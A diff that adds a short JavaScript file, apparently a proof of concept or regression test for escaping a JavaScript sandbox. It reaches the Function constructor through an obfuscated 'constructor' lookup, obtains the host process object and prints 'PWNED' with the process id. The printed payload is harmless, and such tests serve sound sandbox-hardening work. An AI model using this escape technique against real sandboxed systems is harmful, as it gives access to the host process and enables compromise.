@@ -1,0 +1,7 @@
+'use strict';
+const w = ['con', 'structor'].join('');
+class C { go(f) { return f[w]; } }
+const t = new C();
+t.go({});
+const fn = (x) => x;
+process.nextTick((x) => { const o = Date.now() > 1 ? x : {}; console.log('PWNED', o.go(fn)('return process')().pid); }, t);
